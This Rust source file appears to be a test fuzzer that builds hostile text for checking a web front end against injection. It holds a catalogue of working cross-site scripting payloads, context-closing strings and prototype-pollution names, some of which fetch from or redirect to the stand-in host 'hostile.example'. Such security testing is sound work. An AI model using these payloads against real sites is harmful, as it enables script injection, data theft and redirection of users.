//! Generated texts that would be markup or script to a page that takes them for such: what ends the place where they stand, elements and
//! addresses that run or load something, in mixed case and with other blanks, and names that objects of JavaScript have already.
//!
//! The same at each run, unless `PLATFORM_TEST_SEED` says otherwise.

use harness::Random;
use serde_json::{Map, Value, json};

/// Ends what a value may stand in.
const ENDS: [&str; 20] = [
    "",
    "\">",
    "'>",
    "-->",
    "]]>",
    "`}",
    "*/",
    "\\\"",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "<!--",
    "<![CDATA[",
    "\u{2028}",
    "\u{202e}",
    "\r\n",
    "\0",
    "%22%3E",
    "&quot;>",
];
/// Would be taken for markup or script.
const BODIES: [&str; 25] = [
    "<img src=x onerror=MARK>",
    "<svg onload=MARK>",
    "<svg/onload=\"MARK\"//",
    "<script>MARK</script>",
    "<iframe srcdoc=\"<script>parent.MARK</script>\"></iframe>",
    "<iframe src=\"javascript:MARK\">",
    "<a href=\"javascript:MARK\">x</a>",
    "javascript:MARK",
    "data:text/html,<script>MARK</script>",
    "<details open ontoggle=MARK>",
    "<input autofocus onfocus=MARK>",
    "<video><source onerror=MARK></video>",
    "<body onload=MARK>",
    "<object data=\"javascript:MARK\">",
    "<base href=//hostile.example/>",
    "<link rel=stylesheet href=//hostile.example/NUMBER.css>",
    "<img src=//hostile.example/NUMBER>",
    "<style>@import '//hostile.example/NUMBER.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=//hostile.example/NUMBER\">",
    "<form action=//hostile.example/NUMBER><button autofocus>x",
    "<template shadowrootmode=open><img src=x onerror=MARK></template>",
    "${MARK}",
    "{{constructor.constructor('MARK')()}}",
    "'-MARK-'",
    "\");MARK;//",
];
/// What they would do.
const MARKS: [&str; 8] = [
    "window.__hostile=NUMBER",
    "self['__hostile']=NUMBER",
    "top['__hos'+'tile']=NUMBER",
    "eval('__hostile=NUMBER')",
    "alert(NUMBER)",
    "fetch('//hostile.example/NUMBER')",
    "location='//hostile.example/NUMBER'",
    "console.error(NUMBER)",
];
/// Names that objects of JavaScript, or elements of Preact, have already.
const NAMES: [&str; 10] = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "dangerouslySetInnerHTML",
    "onclick",
    "ref",
    "key",
    "children",
];

/// See the module.
pub(super) struct HostileText {
    random: Random,
    made: u64,
}

impl HostileText {
    pub(super) fn new() -> Self {
        let random = Random::seeded("hostile_values", 22);
        Self { random, made: 0 }
    }

    /// How many there are by now.
    pub(super) fn made(&self) -> u64 {
        self.made
    }

    pub(super) fn is_one_in(&mut self, many: u64) -> bool {
        self.random.below(many) == 0
    }

    fn pick(&mut self, from: &[&'static str]) -> &'static str {
        from[usize::try_from(self.random.below(from.len() as u64)).unwrap()]
    }

    /// A value that was not there before, but for some names.
    pub(super) fn value(&mut self) -> String {
        self.made += 1;
        if self.is_one_in(40) {
            return self.pick(&NAMES).to_owned();
        }
        let mut text = [self.pick(&ENDS), self.pick(&BODIES)].concat();
        if self.is_one_in(4) {
            text.push_str(self.pick(&ENDS));
            text.push_str(self.pick(&BODIES));
        }
        if self.is_one_in(5) {
            let between = self.pick(&["/", "\t", "\n", "\u{c}"]);
            text = text.replace(' ', between);
        }
        let mixed = self.is_one_in(3);
        let parts: Vec<String> = text
            .split("MARK")
            .map(|part| if mixed { self.mix(part) } else { part.to_owned() })
            .collect();
        let mark = self.pick(&MARKS);
        let number = self.made.to_string();
        format!("{} {number}", parts.join(mark).replace("NUMBER", &number))
    }

    /// Upper and lower case at random: names of elements may have any.
    fn mix(&mut self, text: &str) -> String {
        let mut mixed = String::new();
        for part in text.split_inclusive("NUMBER") {
            let (plain, number) = part.split_at(part.find("NUMBER").unwrap_or(part.len()));
            for letter in plain.chars() {
                match self.random.below(2) {
                    0 => mixed.push(letter.to_ascii_uppercase()),
                    _ => mixed.push(letter),
                }
            }
            mixed.push_str(number);
        }
        mixed
    }

    /// The same, no longer than so many characters.
    pub(super) fn short(&mut self, most: usize) -> String {
        self.value().chars().take(most).collect()
    }

    /// An object with a value under another.
    pub(super) fn object(&mut self, known: Value) -> Map<String, Value> {
        let mut object = known.as_object().cloned().unwrap_or_default();
        object.insert(self.value(), json!(self.value()));
        object
    }
}
